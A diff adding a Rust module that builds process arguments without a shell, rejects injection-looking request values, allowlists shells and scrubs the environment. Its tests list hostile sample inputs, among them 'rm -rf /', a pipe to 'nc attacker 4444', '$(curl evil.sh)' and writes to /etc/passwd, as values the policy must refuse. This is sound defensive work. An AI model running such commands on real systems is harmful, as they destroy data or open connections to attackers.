@@ -0,0 +1,283 @@
+//! Safe argument building for tools that spawn processes
+//!
+//! [`ProcessArgs`] builds the command line of a spawned process as a list of
+//! separate arguments; nothing is ever passed through a shell for
+//! interpolation. Arguments from the tool's configuration are trusted, while
+//! arguments taken from a request are checked against an [`ArgumentPolicy`]
+//! first and rejected with [`ToolError::SecurityViolation`] if they look like
+//! an injection attempt: control characters, shell metacharacters such as
+//! `;`, `|` or `$(`, or a leading `-` that would turn a value into an option.
+//!
+//! Running a shell such as `sh` or `cmd` is refused unless the program is on
+//! the builder's explicit shell allowlist. Even then request values are only
+//! ever passed as separate arguments, which a script reads as `"$1"`, never
+//! spliced into the script itself.
+//!
+//! Spawned processes do not inherit the host environment either:
+//! [`scrub_environment`] passes through only the variables an
+//! [`EnvironmentDefinition`] allows, so credentials in the server's
+//! environment stay out of tools.
+
+use std::path::Path;
+
+use serde::{Deserialize, Serialize};
+use squirrel_commands::environments::{EnvironmentDefinition, ExecutionEnvironment};
+use tokio::process::Command;
+use tracing::warn;
+
+use crate::tool::ToolError;
+
+/// Programs that interpret their arguments as shell commands
+pub const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "cmd", "powershell", "pwsh",
+];
+
+/// Characters a shell gives special meaning to
+const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '`', '<', '>'];
+
+/// Character sequences starting a shell expansion
+const SHELL_EXPANSIONS: &[&str] = &["$(", "${"];
+
+/// Whether `program` names a shell, by its file name without extension
+pub fn is_shell(program: &str) -> bool {
+    Path::new(program)
+        .file_stem()
+        .and_then(|stem| stem.to_str())
+        .is_some_and(|stem| SHELLS.contains(&stem.to_ascii_lowercase().as_str()))
+}
+
+/// What arguments taken from a request may contain
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ArgumentPolicy {
+    /// Longest accepted argument, in bytes
+    pub max_length: usize,
+    /// Accept `;`, `|`, `&`, backticks, redirections and `$(`/`${`
+    pub allow_shell_metacharacters: bool,
+    /// Accept arguments starting with `-`, which programs read as options
+    pub allow_options: bool,
+}
+
+impl Default for ArgumentPolicy {
+    fn default() -> Self {
+        Self {
+            max_length: 4096,
+            allow_shell_metacharacters: false,
+            allow_options: false,
+        }
+    }
+}
+
+impl ArgumentPolicy {
+    /// Checks the value of request argument `name`
+    ///
+    /// # Errors
+    ///
+    /// Returns [`ToolError::SecurityViolation`] naming the argument and why
+    /// it was rejected. Control characters other than tab are always
+    /// rejected.
+    pub fn check(&self, name: &str, value: &str) -> Result<(), ToolError> {
+        let reason = if value.len() > self.max_length {
+            Some(format!("is longer than {} bytes", self.max_length))
+        } else if value.chars().any(|c| c.is_control() && c != '\t') {
+            Some("contains control characters".to_string())
+        } else if !self.allow_shell_metacharacters
+            && (value.contains(SHELL_METACHARACTERS)
+                || SHELL_EXPANSIONS.iter().any(|expansion| value.contains(expansion)))
+        {
+            Some("contains shell metacharacters".to_string())
+        } else if !self.allow_options && value.starts_with('-') {
+            Some("starts with '-' and would be read as an option".to_string())
+        } else {
+            None
+        };
+        match reason {
+            Some(reason) => {
+                warn!("Rejected argument '{}': {}", name, reason);
+                Err(ToolError::SecurityViolation(format!(
+                    "Argument '{}' {}",
+                    name, reason
+                )))
+            }
+            None => Ok(()),
+        }
+    }
+}
+
+/// The program and arguments of a process to spawn, without a shell
+#[derive(Debug, Clone, Default)]
+pub struct ProcessArgs {
+    /// Program to run
+    program: String,
+    /// Arguments in order
+    args: Vec<String>,
+    /// Checks applied to request arguments
+    policy: ArgumentPolicy,
+    /// Shells the program may be
+    allowed_shells: Vec<String>,
+}
+
+impl ProcessArgs {
+    /// Starts the command line of `program`
+    pub fn new(program: impl Into<String>) -> Self {
+        Self {
+            program: program.into(),
+            ..Self::default()
+        }
+    }
+
+    /// Checks request arguments against `policy`
+    pub fn with_policy(mut self, policy: ArgumentPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Allows the program to be one of `shells`
+    pub fn with_allowed_shells(mut self, shells: impl IntoIterator<Item = impl Into<String>>) -> Self {
+        self.allowed_shells = shells.into_iter().map(Into::into).collect();
+        self
+    }
+
+    /// Appends a trusted argument from the tool's configuration
+    pub fn arg(&mut self, arg: impl Into<String>) -> &mut Self {
+        self.args.push(arg.into());
+        self
+    }
+
+    /// Appends the value of request argument `name` after checking it
+    ///
+    /// # Errors
+    ///
+    /// Returns [`ToolError::SecurityViolation`] if the policy rejects it.
+    pub fn request_arg(&mut self, name: &str, value: impl Into<String>) -> Result<&mut Self, ToolError> {
+        let value = value.into();
+        self.policy.check(name, &value)?;
+        self.args.push(value);
+        Ok(self)
+    }
+
+    /// The arguments so far
+    pub fn args(&self) -> &[String] {
+        &self.args
+    }
+
+    /// Builds the command to spawn
+    ///
+    /// # Errors
+    ///
+    /// Returns [`ToolError::SecurityViolation`] if the program is a shell not
+    /// on the allowlist.
+    pub fn command(&self) -> Result<Command, ToolError> {
+        if is_shell(&self.program)
+            && !self
+                .allowed_shells
+                .iter()
+                .any(|shell| shell == &self.program || is_same_program(shell, &self.program))
+        {
+            return Err(ToolError::SecurityViolation(format!(
+                "Running the shell '{}' is not allowed; add it to the allowed shells if the tool needs it",
+                self.program
+            )));
+        }
+        let mut command = Command::new(&self.program);
+        command.args(&self.args);
+        Ok(command)
+    }
+}
+
+/// Makes `command` see only the host variables `environment` passes
+/// through, plus the variables it sets
+///
+/// Variables set on `command` before are cleared, so call this first.
+///
+/// # Errors
+///
+/// Returns [`ToolError::ValidationFailed`] if `environment` cannot be resolved.
+pub fn scrub_environment(
+    command: &mut Command,
+    name: &str,
+    environment: &EnvironmentDefinition,
+) -> Result<(), ToolError> {
+    let environment = ExecutionEnvironment::resolve(name, environment, std::env::vars())
+        .map_err(|e| ToolError::ValidationFailed(e.to_string()))?;
+    environment.apply(command.as_std_mut());
+    Ok(())
+}
+
+/// Whether two program names have the same file name, e.g. `sh` and `/bin/sh`
+fn is_same_program(a: &str, b: &str) -> bool {
+    Path::new(a).file_name() == Path::new(b).file_name()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_policy_rejects_injection_attempts() {
+        let policy = ArgumentPolicy::default();
+        for attempt in [
+            "genome.fa; rm -rf /",
+            "a | nc attacker 4444",
+            "$(curl evil.sh)",
+            "${HOME}",
+            "`id`",
+            "out > /etc/passwd",
+            "x && reboot",
+            "line\nbreak",
+            "nul\0byte",
+            "--output=/etc/shadow",
+            "-rf",
+        ] {
+            assert!(
+                matches!(policy.check("input", attempt), Err(ToolError::SecurityViolation(_))),
+                "{attempt:?} was accepted"
+            );
+        }
+        for value in ["genome.fa", "sample 1.bam", "chr1:100-200", "café", "50%", "a\tb"] {
+            assert!(policy.check("input", value).is_ok(), "{value:?} was rejected");
+        }
+
+        let lenient = ArgumentPolicy {
+            allow_options: true,
+            allow_shell_metacharacters: true,
+            max_length: 8,
+        };
+        assert!(lenient.check("flag", "--verbose").is_err());
+        assert!(lenient.check("flag", "-v;ls").is_ok());
+        assert!(lenient.check("flag", "nul\0").is_err());
+    }
+
+    #[test]
+    fn test_shells_need_the_allowlist() {
+        assert!(is_shell("/bin/bash") && is_shell("cmd.exe") && is_shell("PowerShell"));
+        assert!(!is_shell("python3") && !is_shell("/usr/bin/shasum"));
+
+        let mut refused = ProcessArgs::new("/bin/sh");
+        refused.arg("-c").arg("echo \"$1\"").arg("sh");
+        assert!(matches!(refused.command(), Err(ToolError::SecurityViolation(_))));
+
+        let mut allowed = ProcessArgs::new("/bin/sh").with_allowed_shells(["sh"]);
+        allowed.arg("-c").arg("echo \"$1\"").arg("sh");
+        allowed.request_arg("name", "world").unwrap();
+        assert!(allowed.request_arg("name", "x; id").is_err());
+        assert_eq!(allowed.args(), ["-c", "echo \"$1\"", "sh", "world"]);
+        assert!(allowed.command().is_ok());
+        assert!(ProcessArgs::new("grep").command().is_ok());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_request_arguments_are_not_interpolated() {
+        let mut args = ProcessArgs::new("sh")
+            .with_allowed_shells(["sh"])
+            .with_policy(ArgumentPolicy {
+                allow_shell_metacharacters: true,
+                ..ArgumentPolicy::default()
+            });
+        args.arg("-c").arg("printf '%s' \"$1\"").arg("sh");
+        args.request_arg("name", "$(echo injected); echo twice").unwrap();
+        let output = args.command().unwrap().output().await.unwrap();
+        assert_eq!(String::from_utf8_lossy(&output.stdout), "$(echo injected); echo twice");
+    }
+}